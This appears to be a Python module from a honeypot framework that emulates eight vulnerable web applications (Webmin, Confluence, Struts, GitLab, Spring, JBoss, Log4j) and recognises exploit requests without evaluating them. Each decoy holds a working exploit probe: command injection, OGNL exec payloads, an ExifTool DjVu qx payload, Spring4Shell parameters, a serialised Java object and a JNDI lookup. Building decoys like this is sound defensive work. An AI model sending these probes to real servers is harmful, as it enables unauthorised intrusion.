"""Web application decoys: Webmin (CVE-2019-15107), Confluence OGNL injections
(CVE-2022-26134, CVE-2021-26084), Apache Struts Jakarta multipart (CVE-2017-5638),
GitLab ExifTool (CVE-2021-22205), Spring4Shell (CVE-2022-22965), JBoss invoker
deserialisation (CVE-2017-12149) and Log4Shell JNDI lookups (CVE-2021-44228).

Nothing of a request is evaluated: OGNL, JNDI names, serialised Java objects and DjVu
files are only recognised, and answered with what a vulnerable server shows."""

from __future__ import annotations

import re
import urllib.parse

from threatmesh.honeypots.decoys.base import Decoy
from threatmesh.honeypots.decoys.http import (
    HttpEmulation,
    HttpSession,
    Request,
    Response,
    http_probe,
)
from threatmesh.honeypots.decoys.web_servers import CRITICAL, NOT_FOUND

__all__ = ["DECOYS"]

SCOPE_CHANGED = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H"
ID_ROOT = b"uid=0(root) gid=0(root) groups=0(root)\n"


def _page(title: str, body: str = "", status: int = 200) -> Response:
    html = f"<html><head><title>{title}</title></head><body>{body}</body></html>"
    return Response(status, html.encode())


def _decoy(cve: str, title: str, cpes: tuple[str, ...], port: int, emulation: HttpEmulation,
           probe: bytes, cvss: str = CRITICAL) -> Decoy:  # fmt: skip
    return Decoy(cve=cve, title=title, cpes=cpes, cvss=cvss, port=port, protocol="http",
                 session=lambda: HttpSession(emulation), probe=(probe,))  # fmt: skip


def _versions(prefix: str, versions: tuple[str, ...]) -> tuple[str, ...]:
    return tuple(f"{prefix}:{v}:*:*:*:*:*:*:*" for v in versions)


# CVE-2019-15107: Webmin 1.890-1.920 pass password_change.cgi's "old" to a shell.
def _webmin_detect(r: Request) -> bool:
    return "password_change.cgi" in r.path and any(c in r.text() for c in "|;`")


def _webmin_answer(r: Request, exploit: bool) -> Response:
    if exploit:
        return _page("Webmin", "<h1>Failed to change password : The current password is "
                     f"incorrect{ID_ROOT.decode()}</h1>")  # fmt: skip
    return _page("Login to Webmin", "<form action='/session_login.cgi'>Webmin</form>")


WEBMIN = _decoy(
    "CVE-2019-15107", "Webmin password_change.cgi command injection",
    _versions("cpe:2.3:a:webmin:webmin", ("1.890", "1.900", "1.910", "1.920")), 10000,
    HttpEmulation("MiniServ/1.890", _webmin_detect, _webmin_answer),
    http_probe("POST", "/password_change.cgi",
               {"Referer": "https://target:10000/session_login.cgi",
                "Content-Type": "application/x-www-form-urlencoded"},
               b"user=rootxx&pam=&expired=2&old=test|id&new1=test2&new2=test2"),
)  # fmt: skip

_CONFLUENCE = (
    "cpe:2.3:a:atlassian:confluence_server",
    "cpe:2.3:a:atlassian:confluence_data_center",
)


# CVE-2022-26134: Confluence evaluates OGNL in the request URI.
def _ognl_uri_detect(r: Request) -> bool:
    return "${" in urllib.parse.unquote(r.path)


def _ognl_uri_answer(r: Request, exploit: bool) -> Response:
    if exploit:
        return Response(
            302,
            b"",
            {
                "Location": "/login.action",
                "X-Cmd-Response": "uid=1001(confluence) gid=1001(confluence)",
            },
        )
    if r.path == "/":
        return Response(302, b"", {"Location": "/login.action"})
    return _page("Log In - Confluence", "<form name='loginform'>Confluence 7.13.6</form>")


CONFLUENCE_OGNL = _decoy(
    "CVE-2022-26134", "Atlassian Confluence OGNL injection in the URI",
    tuple(f"{p}:{v}:*:*:*:*:*:*:*" for p in _CONFLUENCE for v in ("7.*", "6.*", "5.*")), 8090,
    HttpEmulation("", _ognl_uri_detect, _ognl_uri_answer),
    http_probe("GET", "/%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%7D/", {}),
)  # fmt: skip


# CVE-2021-26084: Confluence evaluates OGNL in the queryString of page variables.
def _ognl_vars_detect(r: Request) -> bool:
    path, text = r.path.lower(), r.text()
    return "variables.action" in path and ("#{" in text or "\\u0027" in text)


def _ognl_vars_answer(r: Request, exploit: bool) -> Response:
    value = "{&quot;uid=1001(confluence)&quot;}" if exploit else ""
    return _page("Create Page - Confluence",
                 f"<input type='hidden' name='queryString' value='{value}'>")  # fmt: skip


CONFLUENCE_VARS = _decoy(
    "CVE-2021-26084", "Atlassian Confluence Webwork OGNL injection",
    tuple(f"{p}:{v}:*:*:*:*:*:*:*" for p in _CONFLUENCE for v in ("7.*", "6.*")), 8090,
    HttpEmulation("", _ognl_vars_detect, _ognl_vars_answer),
    http_probe("POST", "/pages/doenterpagevariables.action",
               {"Content-Type": "application/x-www-form-urlencoded"},
               b"queryString=aaa%5Cu0027%2B%23%7B3*33%7D%2B%5Cu0027"),
)  # fmt: skip


# CVE-2017-5638: Struts' Jakarta multipart parser evaluates OGNL in Content-Type.
def _struts_detect(r: Request) -> bool:
    ctype = r.headers.get("content-type", "")
    return "%{" in ctype or "${" in ctype or "_memberAccess" in ctype


def _struts_answer(r: Request, exploit: bool) -> Response:
    if exploit:
        return Response(200, ID_ROOT, content_type="text/plain")
    return _page("Struts2 Showcase", "<a href='/struts2-showcase/index.action'>Showcase</a>")


STRUTS = _decoy(
    "CVE-2017-5638", "Apache Struts 2 Jakarta multipart OGNL injection",
    _versions("cpe:2.3:a:apache:struts", ("2.3.*", "2.5.*")), 8080,
    HttpEmulation("Apache-Coyote/1.1", _struts_detect, _struts_answer),
    http_probe("GET", "/struts2-showcase/index.action",
               {"Content-Type": "%{(#_='multipart/form-data').(#cmd='id')}"}),
    SCOPE_CHANGED,
)  # fmt: skip


# CVE-2021-22205: GitLab hands uploaded images to ExifTool, whose DjVu parser evals.
def _gitlab_detect(r: Request) -> bool:
    return r.path.startswith("/uploads/") and (b"AT&TFORM" in r.body or b"(metadata" in r.body)


def _gitlab_answer(r: Request, exploit: bool) -> Response:
    if exploit:
        return Response(422, b'{"message":"Failed to process image"}',
                        content_type="application/json")  # fmt: skip
    if r.path == "/":
        return Response(302, b"", {"Location": "/users/sign_in"})
    return _page("Sign in · GitLab", "<div class='gl-'>GitLab Community Edition</div>")


GITLAB = _decoy(
    "CVE-2021-22205", "GitLab ExifTool DjVu remote code execution",
    _versions("cpe:2.3:a:gitlab:gitlab", ("13.*", "12.*", "11.*")), 80,
    HttpEmulation("nginx", _gitlab_detect, _gitlab_answer),
    http_probe("POST", "/uploads/user",
               {"Content-Type": "multipart/form-data; boundary=x"},
               b'--x\r\nContent-Disposition: form-data; name="file"; filename="a.jpg"\r\n\r\n'
               b"AT&TFORM\x00\x00\x00\x00DJVUINFO(metadata (Copyright \"\\\n\" . qx{id} . \\\n"
               b'" b ") )\r\n--x--\r\n'),
    SCOPE_CHANGED,
)  # fmt: skip


# CVE-2022-22965: Spring data binding reaches class.module.classLoader on JDK 9+.
def _spring_detect(r: Request) -> bool:
    return "class.module.classloader" in r.text().lower()


def _spring_answer(r: Request, exploit: bool) -> Response:
    return Response(200, b"ok" if exploit else b"Hello, World", content_type="text/plain")


SPRING = _decoy(
    "CVE-2022-22965", "Spring Framework data binding RCE (Spring4Shell)",
    _versions("cpe:2.3:a:vmware:spring_framework", ("5.3.*", "5.2.*")), 8080,
    HttpEmulation("", _spring_detect, _spring_answer),
    http_probe("POST", "/greeting", {"Content-Type": "application/x-www-form-urlencoded"},
               b"class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"),
)  # fmt: skip


# CVE-2017-12149: JBoss AS 5's ReadOnlyAccessFilter deserialises the request body.
def _jboss_detect(r: Request) -> bool:
    return r.path.startswith("/invoker/") and r.body.startswith(b"\xac\xed\x00\x05")


def _jboss_answer(r: Request, exploit: bool) -> Response:
    powered = {"X-Powered-By": "Servlet 2.5; JBoss-5.0/JBossWeb-2.1"}
    if exploit:
        return Response(500, b"<html><body><h1>HTTP Status 500 - </h1><pre>java.lang."
                        b"ClassCastException: org.jboss.invocation.http.servlet."
                        b"ReadOnlyAccessFilter</pre></body></html>", powered)  # fmt: skip
    if r.path == "/":
        return Response(200, b"<html><body><h3>Welcome to JBoss AS</h3></body></html>", powered)
    return NOT_FOUND


JBOSS = _decoy(
    "CVE-2017-12149", "JBoss AS 5 HTTP invoker deserialisation",
    _versions("cpe:2.3:a:redhat:jboss_enterprise_application_platform", ("5.*",)), 8080,
    HttpEmulation("Apache-Coyote/1.1", _jboss_detect, _jboss_answer),
    http_probe("POST", "/invoker/readonly",
               {"Content-Type": "application/x-java-serialized-object"},
               b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap\x05\x07\xda\xc1\xc3\x16`\xd1"),
)  # fmt: skip

# ${jndi:...}, also nested lookups that spell it (${${lower:j}ndi:...}).
_JNDI = re.compile(r"\$\{[^}]{0,80}?(jndi|\$\{)", re.IGNORECASE)


# CVE-2021-44228: Log4j 2 resolves JNDI lookups in logged strings (headers, paths).
def _log4j_detect(r: Request) -> bool:
    return _JNDI.search(r.text()) is not None


def _log4j_answer(r: Request, exploit: bool) -> Response:
    return _page("Sign in", "<form action='/login' method='post'>Customer portal</form>")


LOG4SHELL = _decoy(
    "CVE-2021-44228", "Apache Log4j 2 JNDI lookup (Log4Shell)",
    _versions("cpe:2.3:a:apache:log4j", ("2.*",)), 8080,
    HttpEmulation("", _log4j_detect, _log4j_answer),
    http_probe("GET", "/", {"X-Api-Version": "${jndi:ldap://probe.invalid:1389/a}"}),
    SCOPE_CHANGED,
)  # fmt: skip

DECOYS = (WEBMIN, CONFLUENCE_OGNL, CONFLUENCE_VARS, STRUTS, GITLAB, SPRING, JBOSS, LOG4SHELL)
